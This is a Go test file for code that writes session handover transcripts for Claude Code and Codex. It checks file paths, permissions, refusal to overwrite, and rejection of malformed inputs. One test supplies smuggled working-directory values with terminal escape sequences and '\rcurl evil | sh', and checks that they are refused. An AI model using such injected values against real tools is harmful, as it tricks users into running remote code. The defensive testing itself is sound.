package transcript

import (
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var handedAt = time.Date(2026, 5, 4, 9, 8, 7, 0, time.UTC)

func handover(t *testing.T, program, cwd, home string) *Handover {
	t.Helper()
	h, err := NewHandover(program, cwd, home, func(string) string { return "" }, handedAt)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func says(text string) func(io.Writer) error {
	return func(w io.Writer) error { _, err := io.WriteString(w, text); return err }
}

func TestAHandoverLiesWhereTheProgramLooks(t *testing.T) {
	home := t.TempDir()
	for _, c := range []struct{ program, file, resume, from, to string }{
		{
			"claude-code", ".claude/projects/-home-me-my-app/ID.jsonl", "claude --resume ID",
			`{"cwd":"/","sessionId":"old","type":"user","n":1.50}` + "\n" + `{"type":"mode","mode":"normal"}` + "\n" + `{"cwd":"/home/me/my_app/sub","sessionId":"old"}` + "\n",
			`{"cwd":"/home/me/my_app","sessionId":"ID","type":"user","n":1.50}` + "\n" + `{"type":"mode","mode":"normal"}` + "\n" + `{"cwd":"/home/me/my_app/sub","sessionId":"ID"}` + "\n",
		},
		{
			"codex", ".codex/sessions/2026/05/04/rollout-2026-05-04T09-08-07-ID.jsonl", "codex exec resume ID",
			`{"type":"session_meta","payload":{"session_id":"old","id":"old","cwd":"/"}}` + "\n" + `{"type":"event_msg","payload":{"id":"old"}}` + "\n",
			`{"type":"session_meta","payload":{"session_id":"ID","id":"ID","cwd":"/home/me/my_app"}}` + "\n" + `{"type":"event_msg","payload":{"id":"old"}}` + "\n",
		},
	} {
		h := handover(t, c.program, "/home/me/my_app", home)
		id := func(s string) string { return strings.ReplaceAll(s, "ID", h.ID) }
		if h.File != filepath.Join(home, id(c.file)) || strings.Join(h.Resume, " ") != id(c.resume) {
			t.Errorf("%s: %s, %q", c.program, h.File, h.Resume)
		}
		if _, err := os.Stat(filepath.Dir(h.File)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s: something is there before it is written: %v", c.program, err)
		}
		if err := h.Write(says(c.from)); err != nil {
			t.Fatal(err)
		}
		got, err := os.ReadFile(h.File)
		fi, _ := os.Stat(h.File)
		if err != nil || string(got) != id(c.to) || fi.Mode() != 0o600 {
			t.Errorf("%s: %v %v\n%swant\n%s", c.program, err, fi, got, id(c.to))
		}
		if other := handover(t, c.program, "/home/me/my_app", home); other.ID == h.ID {
			t.Errorf("%s: the id %s comes twice", c.program, h.ID)
		}
	}
}

func TestAHandoverReplacesNothingAndLeavesNothingHalf(t *testing.T) {
	home := t.TempDir()
	h := handover(t, "codex", "/app", home)
	if err := h.Write(says("{}\n")); err != nil {
		t.Fatal(err)
	}
	if err := h.Write(says(`{"type":"other"}` + "\n")); !errors.Is(err, fs.ErrExist) {
		t.Errorf("a file that is there: %v", err)
	}
	if got, _ := os.ReadFile(h.File); string(got) != "{}\n" {
		t.Errorf("it was replaced: %s", got)
	}
	broken := handover(t, "codex", "/app", home)
	failed := errors.New("the export fails")
	if err := broken.Write(func(w io.Writer) error { io.WriteString(w, "{}\n"); return failed }); !errors.Is(err, failed) {
		t.Errorf("a broken export: %v", err)
	}
	if entries, err := os.ReadDir(filepath.Dir(h.File)); err != nil || len(entries) != 1 {
		t.Errorf("left behind: %v %v", entries, err)
	}
}

func TestAHandoverThatNobodyWouldFindIsRefused(t *testing.T) {
	none := func(string) string { return "" }
	if _, err := NewHandover("claude-code", "/"+strings.Repeat("x", 200), "/home/me", none, handedAt); err == nil || !strings.Contains(err.Error(), "too long") {
		t.Errorf("a long path: %v", err)
	}
	if _, err := NewHandover("vi", "/app", "/home/me", none, handedAt); err == nil || !strings.Contains(err.Error(), "claude-code, codex") {
		t.Errorf("another program: %v", err)
	}
	// What an agent wrote into cwd is printed on a terminal, beside a command to copy.
	for _, cwd := range []string{"/x\x1b[2Jy", "/x\rcurl evil | sh", "/x\ny"} {
		if _, err := NewHandover("codex", cwd, "/home/me", none, handedAt); err == nil || strings.Contains(err.Error(), cwd) {
			t.Errorf("%q: %v", cwd, err)
		}
	}
	if h, err := NewHandover("claude-code", "/no/such/../app/.", "/home/me", none, handedAt); err != nil || h.Cwd != "/no/app" || !strings.Contains(h.File, "/projects/-no-app/") {
		t.Errorf("a path with dots: %+v %v", h, err)
	}
	home := func(name string) string { return map[string]string{"CODEX_HOME": "/x"}[name] }
	if h, err := NewHandover("codex", "/app", "/home/me", home, handedAt); err != nil || !strings.HasPrefix(h.File, "/x/sessions/") {
		t.Errorf("another CODEX_HOME: %+v %v", h, err)
	}
}
